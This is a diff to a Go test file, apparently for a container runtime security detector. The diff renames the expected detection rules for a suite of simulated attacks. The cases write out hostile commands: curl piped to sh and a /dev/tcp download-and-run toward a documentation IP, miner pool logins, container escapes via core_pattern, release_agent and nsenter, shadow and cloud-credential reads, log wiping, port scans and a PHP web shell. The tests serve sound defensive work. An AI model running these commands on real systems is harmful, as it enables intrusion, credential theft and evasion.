@@ -38,10 +38,10 @@ func reverseShells() []attackCase {
 func mining() []attackCase {
 	return []attackCase{
 		{name: "miner-protocol", script: timed + `python3 -c 'import socket;s=socket.create_connection(("203.0.113.5",3333));s.send(b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"44Ab\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\n");s.settimeout(2);print("answer",s.recv(1))'`,
-			rules: []string{"miner", "miner-protocol"}, least: high, outcome: bollwerk.Denied},
+			rules: []string{"miner"}, least: high, outcome: bollwerk.Denied},
 		{name: "miner-command", script: `cp /bin/sleep /tmp/xmrig; bash -c 'exec -a /tmp/xmrig sleep 0.2 -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ -p x' || true`,
 			rules: []string{"miner", "miner-command-line"}, least: high},
-		{name: "miner-names", script: `for h in pool.minexmr.com xmr.pool.minergate.com pool.supportxmr.com; do getent hosts $h; done`, rules: []string{"miner", "miner-pool-name"}, least: high},
+		{name: "miner-names", script: `for h in pool.minexmr.com xmr.pool.minergate.com pool.supportxmr.com; do getent hosts $h; done`, rules: []string{"miner"}, least: high},
 	}
 }
 
@@ -62,7 +62,7 @@ random.seed(7)
 for i in range(120):
   n="nx"+"".join(random.choice("bcdfghjklmnpqrstvwxzaeiou") for _ in range(14))+random.choice([".com",".net",".info",".biz",".ru"])
   try: socket.getaddrinfo(n,80)
-  except OSError: pass'`, rules: []string{"dga", "generated-domains"}, least: medium},
+  except OSError: pass'`, rules: []string{"generated-domains"}, least: medium},
 	}
 }
 
@@ -81,9 +81,9 @@ f=os.memfd_create("x",1);os.write(f,open("/bin/echo","rb").read());os.execve(f,[
 			rules: []string{"drift-execution", "execution-from-temporary-folder"}, least: medium, outcome: bollwerk.Killed, lsm: bollwerk.Denied, proof: "drift-ran"},
 		{name: "shared-memory", script: `cp /bin/echo /dev/shm/x; /dev/shm/x shm-ran`, rules: []string{"execution-from-shared-memory"}, least: medium},
 		{name: "download-and-run", script: timed + `bash -c 'exec 3<>/dev/tcp/203.0.113.5/80; cat <&3 | tail -n 2 > /tmp/d.sh; chmod +x /tmp/d.sh; /tmp/d.sh'`,
-			rules: []string{"dropper", "download-and-run", "execution-from-temporary-folder", "drift-execution"}, least: medium},
-		{name: "decode-and-run", script: `echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d | sh`, rules: []string{"pipeline", "decode-and-run"}, least: medium},
-		{name: "curl-pipe-shell", script: timed + `curl -s http://203.0.113.5/x | sh`, rules: []string{"pipeline", "download-and-run", "decode-and-run"}, least: medium},
+			rules: []string{"download-and-run", "execution-from-temporary-folder", "drift-execution"}, least: medium},
+		{name: "decode-and-run", script: `echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d | sh`, rules: []string{"decode-and-run", "decode-and-run-command"}, least: medium},
+		{name: "curl-pipe-shell", script: timed + `curl -s http://203.0.113.5/x | sh`, rules: []string{"download-and-run", "decode-and-run", "download-and-run-command"}, least: medium},
 		{name: "preload", script: `cp /lib/x86_64-linux-gnu/libc.so.6 /tmp/evil.so; LD_PRELOAD=/tmp/evil.so /bin/true`, rules: []string{"preload-from-environment"}, least: medium},
 		{name: "preload-file", script: `echo /tmp/evil.so > /etc/ld.so.preload`, rules: []string{"preload-for-all-programs"}, least: high},
 	}
@@ -94,11 +94,11 @@ func escapes() []attackCase {
 		{name: "core-pattern", script: `cat /proc/sys/kernel/core_pattern > /tmp/c; echo '|/tmp/evil' > /proc/sys/kernel/core_pattern && echo pattern-written; cat /tmp/c > /proc/sys/kernel/core_pattern`,
 			opts: []option{privileged}, rules: []string{"kernel-setting-from-container"}, least: high, outcome: bollwerk.Denied, lsm: bollwerk.Denied, proof: "pattern-written"},
 		{name: "release-agent", script: `mkdir /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg 2>/dev/null || mount -t cgroup -o pids cgroup /tmp/cg; mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; echo /cmd > /tmp/cg/release_agent; rmdir /tmp/cg/x; umount /tmp/cg`,
-			opts: []option{privileged}, rules: []string{"kernel-setting-from-container", "escape", "mount-in-container"}, least: high},
+			opts: []option{privileged}, rules: []string{"kernel-setting-from-container", "container-escape", "mount-in-container"}, least: high},
 		{name: "nsenter", script: `nsenter -t 1 -m -u -i -n true || nsenter -t 2 -m true; nsenter -t 1 -m true`, opts: []option{privileged, hostPID},
-			rules: []string{"namespace-tool-in-container", "escape", "namespace-entered-from-container"}, least: high},
+			rules: []string{"namespace-tool-in-container", "container-escape", "host-namespace-entered"}, least: high},
 		{name: "proc-root", script: `cat /proc/1/root/etc/hostname; cat /proc/2/root/etc/shadow > /dev/null`, opts: []option{privileged, hostPID}, rules: []string{"host-files-through-proc", "password-file-read"}, least: medium},
-		{name: "host-mount", script: `mkdir /tmp/m; mount -t tmpfs none /tmp/m && mount --bind /proc /tmp/m`, opts: []option{privileged}, rules: []string{"mount-in-container", "escape"}, least: medium},
+		{name: "host-mount", script: `mkdir /tmp/m; mount -t tmpfs none /tmp/m && mount --bind /proc /tmp/m`, opts: []option{privileged}, rules: []string{"mount-in-container", "container-escape"}, least: medium},
 		{name: "docker-socket", script: `rm -f /run/docker.sock; socat unix-listen:/run/docker.sock,fork exec:/bin/true & while [ ! -S /run/docker.sock ]; do :; done; curl -s --max-time 1 --unix-socket /run/docker.sock http://x/containers/json; kill %1`,
 			rules: []string{"container-runtime-socket"}, least: medium},
 		{name: "module", script: `head -c 4096 /dev/zero > /tmp/x.ko; python3 -c 'import ctypes,os;l=ctypes.CDLL(None);f=os.open("/tmp/x.ko",0);print(l.syscall(313,f,b"",0))'`, opts: []option{privileged},
@@ -108,7 +108,7 @@ import ctypes,struct
 l=ctypes.CDLL(None,use_errno=True);i=ctypes.create_string_buffer(bytes.fromhex("b700000000000000")+bytes.fromhex("9500000000000000"));g=ctypes.create_string_buffer(b"GPL")
 a=ctypes.create_string_buffer(struct.pack("IIQQ",1,2,ctypes.addressof(i),ctypes.addressof(g))+bytes(96))
 print(l.syscall(321,5,a,120),ctypes.get_errno())'`, opts: []option{privileged}, rules: []string{"bpf-load-from-container"}, least: medium},
-		{name: "user-namespace", script: `unshare -Ur true`, rules: []string{"namespace-tool-in-container", "user-namespace-in-container"}, least: low},
+		{name: "user-namespace", script: `unshare -Ur true`, rules: []string{"user-namespace-made"}, least: low},
 	}
 }
 
@@ -119,12 +119,12 @@ func credentials() []attackCase {
 		{name: "cloud-key", script: `mkdir -p /root/.aws; echo x > /root/.aws/credentials; sleep 0.2; cat /root/.aws/credentials`, rules: []string{"cloud-credential-read"}, least: medium},
 		{name: "environ", script: `sleep 3 & cat /proc/1/environ > /dev/null; cat /proc/$!/environ | tr '\0' '\n' > /dev/null`, rules: []string{"environment-of-others-read"}, least: low},
 		{name: "metadata", script: timed + `curl -s http://169.254.169.254/latest/meta-data/iam/ || bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'`, rules: []string{"metadata-service-by-tool", "metadata-service-contact"}, least: medium},
-		{name: "api-server", script: timed + `curl -sk https://10.96.0.1:443/api`, rules: []string{"api-server-contact", "api-server-by-tool"}, least: low},
+		{name: "api-server", script: timed + `curl -sk https://10.96.0.1:443/api`, rules: []string{"control-plane-contact", "kubernetes-api-by-tool"}, least: low},
 	}
 }
 
 func persistence() []attackCase {
-	rules := []string{"persistence", "scheduled-job-written", "authorized-keys-written", "shell-profile-written", "service-unit-written", "set-uid-bit-set", "account-file-written"}
+	rules := []string{"scheduled-task-written", "authorized-keys-written", "shell-startup-written", "service-unit-written", "setuid-bit-set", "account-file-written"}
 	return []attackCase{
 		{name: "cron", script: `mkdir -p /etc/cron.d; sleep 0.2; echo '* * * * * root /tmp/x' > /etc/cron.d/x`, rules: rules, least: medium},
 		{name: "authorized-keys", script: `mkdir -p /root/.ssh; sleep 0.2; echo ssh-rsa AAAA >> /root/.ssh/authorized_keys`, rules: rules, least: medium},
@@ -137,9 +137,9 @@ func persistence() []attackCase {
 
 func hiding() []attackCase {
 	return []attackCase{
-		{name: "log-deletion", script: `mkdir -p /var/log; echo x > /var/log/auth.log; sleep 0.2; rm -f /var/log/auth.log; : > /var/log/wtmp`, rules: []string{"log-deletion", "log-deleted", "log-truncated"}, least: low},
-		{name: "history", script: `touch /root/.bash_history; sleep 0.2; rm -f /root/.bash_history`, rules: []string{"history-deletion", "shell-history-deleted", "log-deletion"}, least: low},
-		{name: "bulk-deletion", script: `mkdir /home/d; cd /home/d; for i in $(seq 2000); do echo x > f$i; done; sleep 0.3; rm -f f*`, rules: []string{"bulkdelete", "bulk-deletion"}, least: medium},
+		{name: "log-deletion", script: `mkdir -p /var/log; echo x > /var/log/auth.log; sleep 0.2; rm -f /var/log/auth.log; : > /var/log/wtmp`, rules: []string{"log-removed"}, least: low},
+		{name: "history", script: `touch /root/.bash_history; sleep 0.2; rm -f /root/.bash_history`, rules: []string{"history-removed"}, least: low},
+		{name: "bulk-deletion", script: `mkdir /home/d; cd /home/d; for i in $(seq 2000); do echo x > f$i; done; sleep 0.3; rm -f f*`, rules: []string{"bulk-deletion"}, least: medium},
 		{name: "link", script: `ln -s /etc/shadow /tmp/s; ln /etc/passwd /tmp/p 2>/dev/null; true`, rules: []string{"link-to-sensitive-file"}, least: low},
 	}
 }
@@ -147,7 +147,7 @@ func hiding() []attackCase {
 func others() []attackCase {
 	return []attackCase{
 		{name: "ptrace", script: `sleep 2 & python3 -c 'import ctypes,sys;l=ctypes.CDLL(None);print(l.ptrace(16,int(sys.argv[1]),0,0));import time;time.sleep(1)' $!`, opts: []option{privileged},
-			rules: []string{"process-attached", "ptrace-in-container", "process-injection"}, least: medium},
+			rules: []string{"process-traced-in-container"}, least: medium},
 		{name: "raw-socket", script: `python3 -c 'import socket;socket.socket(socket.AF_INET,socket.SOCK_RAW,1)'; python3 -c 'import socket;socket.socket(socket.AF_PACKET,socket.SOCK_RAW,3)'`, opts: []option{privileged},
 			rules: []string{"raw-socket-in-container"}, least: low},
 		{name: "package-manager", script: `apt-get --version; dpkg -l > /dev/null; apt-get install -y --no-download nothing-here`, rules: []string{"package-manager-in-container"}, least: low},
@@ -159,15 +159,15 @@ for i in range(1,120):
   s=socket.socket();s.settimeout(0.02)
   try: s.connect(("10.77.%d.%d"%(i//50,i),22))
   except OSError: pass
-  s.close()'`, rules: []string{"netscan", "network-scan", "lateral-ssh"}, least: medium},
+  s.close()'`, rules: []string{"network-scan", "ssh-from-container"}, least: medium},
 		{name: "port-scan", script: timed + `python3 -c '
 import socket
 for p in range(1,400):
   s=socket.socket();s.settimeout(0.05)
   try: s.connect(("10.77.0.2",p))
   except OSError: pass
-  s.close()'`, rules: []string{"netscan", "network-scan", "port-scan"}, least: low},
+  s.close()'`, rules: []string{"network-scan"}, least: low},
 		{name: "web-shell", script: `mkdir /tmp/w; echo '<?php system($_GET["c"]);' > /tmp/w/i.php; php -S 127.0.0.1:8099 -t /tmp/w 2>/dev/null & for i in $(seq 50); do curl -s 'http://127.0.0.1:8099/i.php?c=id;uname+-a' && break; sleep 0.1; done; kill %1`,
-			rules: []string{"webshell", "web-shell", "shell-from-server"}, least: medium},
+			rules: []string{"web-shell", "shell-from-server"}, least: medium},
 	}
 }
